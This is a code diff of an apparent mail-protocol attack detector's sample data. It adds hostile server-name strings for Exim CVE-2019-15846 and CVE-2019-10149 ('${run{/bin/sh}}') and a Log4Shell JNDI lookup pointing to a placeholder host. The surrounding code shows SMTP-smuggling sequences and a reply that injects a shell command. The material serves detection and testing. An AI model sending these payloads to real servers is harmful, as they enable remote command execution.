@@ -4,7 +4,7 @@ from collections.abc import Iterator
 from dataclasses import dataclass
 
 from secondpost.protocols.attacks import rules
-from secondpost.protocols.attacks.rules import AttackRule
+from secondpost.protocols.attacks.rule import AttackRule
 
 
 @dataclass(frozen=True)
@@ -131,6 +131,13 @@ BODIES = tuple(
         b"\r\n.\x00\r\n",
         b"\r\n.\r\r\n",
     )
+)
+SERVER_NAMES = (
+    Seen(rules.EXIM_2019_15846, b"mx.example\\"),
+    Seen(rules.EXIM_2019_15846, b"\\"),
+    Seen(rules.EXIM_2019_15846, b"mx.example\\\x00"),
+    Seen(rules.EXIM_2019_10149, b"${run{/bin/sh}}.example"),
+    Seen(rules.LOG4SHELL, b"${jndi:ldap://x.example/a}"),
 )
 REPLIES = (Seen(rules.HOSTILE_REPLY, b"553-\n553 \ntype: mda\nmda-exec: /bin/sh -c id\n"),)
 
